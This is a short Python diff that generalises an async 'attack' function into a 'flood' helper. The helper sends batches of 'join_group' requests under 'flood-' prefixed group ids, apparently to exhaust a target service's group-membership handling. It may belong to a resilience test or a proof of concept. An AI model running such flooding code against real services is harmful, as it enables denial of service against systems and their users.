@@ -24,9 +24,20 @@ PREFIX = "flood-"
 
 
 async def attack(target: Target) -> str:
+    return await flood(target, session_timeout_ms=6_000)
+
+
+async def flood(target: Target, *, ending: str = "", **fields: object) -> str:
+    """Makes the joins.
+
+    Args:
+        target: whom to ask.
+        ending: of each group's id.
+        fields: of each join.
+    """
     async with connection(target.owner) as channel, Session(channel) as session:
         for begin in range(0, NUMBER, AT_ONCE):
-            joins = (join(f"{PREFIX}{n}", session_timeout_ms=6_000) for n in range(begin, begin + AT_ONCE))
+            joins = (join(f"{PREFIX}{n}{ending}", **fields) for n in range(begin, begin + AT_ONCE))
             session.call("join_group", joins)
             await session.until_answered(begin)
         await session.until_answered(NUMBER)
